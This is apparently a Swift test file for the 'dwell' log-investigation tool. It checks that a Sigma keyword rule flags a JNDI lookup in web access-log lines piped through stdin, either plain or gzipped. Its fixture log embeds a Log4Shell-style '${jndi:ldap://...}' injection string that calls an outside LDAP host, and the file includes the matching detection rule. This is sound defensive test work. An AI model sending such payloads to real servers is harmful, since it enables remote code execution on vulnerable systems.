import DwellTestSupport
import Foundation
import Testing

/// Sigma keyword rules over evidence piped to stdin: its lines are searched as they are read (issue #21), as a
/// file's are; stdin cannot be read back, and before they were not searched at all.
@Suite(.enabled(if: Binary.url != nil, "the dwell binary is not built beside the tests (swift build --build-tests)"))
struct SigmaStdinTests {
    static let accessLog: String = {
        var lines: [String] = []
        for i in 0..<20 {
            let path = i == 13 ? "/?q=${jndi:ldap://198.51.100.4:1389/a}" : "/page\(i).html"
            lines.append("203.0.113.\(i % 4 + 1) - - [10/Mar/2026:08:\(10 + i):00 +0000] \"GET \(path) HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"")
        }
        return lines.joined(separator: "\n") + "\n"
    }()

    static let rule = """
        title: JNDI lookup in a request
        id: stdin-jndi
        level: high
        logsource:
            category: webserver
        detection:
            keywords:
                - '${jndi:'
            condition: keywords
        """

    @Test("#21: keyword rules match lines piped to stdin, plain or gzip", arguments: [false, true])
    func keywordRulesMatchStdin(gzipped: Bool) throws {
        let dir = try Fixture.temporaryDirectory("dwell-cli-sigma-stdin")
        defer { try? FileManager.default.removeItem(at: dir) }
        let rule = try Fixture.write(Self.rule, to: dir.appendingPathComponent("jndi.yml"))
        let text = Array(Self.accessLog.utf8)
        let r = try Binary.run(
            ["investigate", "-", "--sigma", rule.path, "--json", "--quiet"], stdin: gzipped ? Fixture.gzip(text) : text)
        #expect(r.status == 0, "\(r.err)")
        let out = String(decoding: r.out, as: UTF8.self)
        #expect(!out.contains("keywords not searched"))
        let json = try #require(try JSONSerialization.jsonObject(with: Data(r.out)) as? [String: Any])
        var cited: [(rule: String, line: Int, raw: String)] = []
        func walk(_ v: Any) {
            if let d = v as? [String: Any] {
                if let id = d["rule"] as? String, let ev = d["evidence"] as? [[String: Any]] {
                    for e in ev { cited.append((id, e["line"] as? Int ?? -1, e["raw"] as? String ?? "")) }
                }
                for x in d.values { walk(x) }
            } else if let a = v as? [Any] {
                for x in a { walk(x) }
            }
        }
        walk(json)
        let hits = cited.filter { $0.rule == "sigma.stdin-jndi" }
        #expect(!hits.isEmpty)
        let line = Self.accessLog.split(separator: "\n").map(String.init)[13]
        #expect(hits.allSatisfy { $0.line == 14 && $0.raw == line }, "\(hits)")
    }
}
